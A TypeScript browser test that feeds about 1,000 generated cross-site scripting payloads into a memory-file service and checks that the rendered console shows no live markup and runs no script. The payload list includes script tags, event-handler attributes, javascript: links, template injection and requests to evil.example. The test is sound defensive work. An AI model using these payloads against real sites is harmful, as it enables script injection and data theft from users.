import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { call } from '../support/service.ts';
import { expectNoProblems, openConsole } from './support/console.ts';

// Each would tell of itself: by a dialog, a mark on the window, or a request elsewhere.
const TELL = ['alert(1)', 'window.ran=1', "fetch('http://evil.example/x')", 'top.ran=1'];
const FORMS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}"><use href="data:image/svg+xml,x#y"/></svg>`,
  (code) => `[click](javascript:${code})`,
  (code) => `[click](JaVaScRiPt&colon;${code})`,
  (code) => `![x](http://evil.example/${encodeURIComponent(code)}.png)`,
  (code) => `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "${code}")`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<style>@import 'http://evil.example/a.css';</style><!-- ${code} -->`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<a href="x" style="background:url(http://evil.example/b)" onmouseover="${code}">x</a>`,
  (code) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
  (code) =>
    `<form action="javascript:${code}"><button autofocus onfocus="${code}">x</button></form>`,
  (code) => `{{ constructor.constructor("${code}")() }}`,
  (code) => `<div v-html="'<img src=x onerror=${code}>'"></div>`,
  (code) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  (code) => `<meta http-equiv="refresh" content="0;url=http://evil.example/${code}">`,
  (code) =>
    `<link rel="stylesheet" href="http://evil.example/${code}"><base href="http://evil.example/">`,
  (code) => `"><script>${code}</script>`,
  (code) => `[x]: http://evil.example "onload=${code}"\n![x]`,
];

/** Elements and attributes that load, act or hide, in what was rendered. */
const FIND_FAULTS = `(() => {
  const nodes = [...document.querySelectorAll('.rendered *')];
  const allowed = /^(H[1-6]|P|BR|HR|BLOCKQUOTE|PRE|CODE|UL|OL|LI|STRONG|EM|S|A|T(ABLE|HEAD|BODY|R|H|D))$/;
  const attributes = nodes.flatMap((node) => [...node.attributes]);
  return [
    ...nodes.filter(({ tagName }) => !allowed.test(tagName)).map(({ outerHTML }) => outerHTML),
    ...attributes
      .filter(({ name, value }) => !/^(href|start|rel|target|title)$/.test(name) || /^\\s*(javascript|data):/i.test(value))
      .map(({ name, value }) => name + '=' + value),
  ];
})()`;

describe('memory content', () => {
  it('never becomes markup: 1,000 hostile texts, none of which runs or asks anything', async () => {
    const opened = await openConsole();
    const { page, service, visit } = opened;
    const { core } = service;
    const payload = fc
      .tuple(
        fc.constantFrom(...FORMS),
        fc.constantFrom(...TELL),
        fc.constantFrom('', ' ', '> ', '- ', '# '),
      )
      .map(([form, code, lead]) => lead + form(code));
    const payloads = [
      ...FORMS.flatMap((form) => TELL.map(form)),
      ...fc.sample(payload, { numRuns: 1_000 - FORMS.length * TELL.length, seed: 7 }),
    ];
    const size = 125;
    for (let file = 0; file * size < payloads.length; file += 1) {
      const content = payloads.slice(file * size, (file + 1) * size).join('\n\n');
      await call(
        core,
        'alice',
        'memory_write',
        { path: `user/${file}.md`, content, reason: payloads[file]?.slice(0, 200) },
        { actor: '<b onclick=alert(1)>x' },
      );
    }
    await call(core, 'alice', 'memory_find', { query: 'click evil example' });
    for (let file = 0; file * size < payloads.length; file += 1) {
      await visit(`/files?path=users/alice/${file}.md&as=rendered`);
      await page.locator('.rendered').waitFor();
      expect(await page.evaluate(FIND_FAULTS)).toEqual([]);
    }
    await visit('/files?path=users/alice/0.md');
    await page.getByText('<script>alert(1)</script>').first().waitFor();
    await visit('/revisions');
    await page.getByRole('button', { name: /Open version 1 of users\/alice\/0\.md/ }).click();
    await page.getByRole('article', { name: 'Revision' }).getByText('Copy diff').waitFor();
    await visit('/activity');
    await page
      .getByText(/Searched and got/)
      .first()
      .waitFor();
    await visit('/observability');
    await page.getByRole('region', { name: 'Topology' }).waitFor();
    expect(await page.evaluate('[window.ran, document.scripts.length]')).toEqual([undefined, 1]);
    expectNoProblems(opened);
  });
});
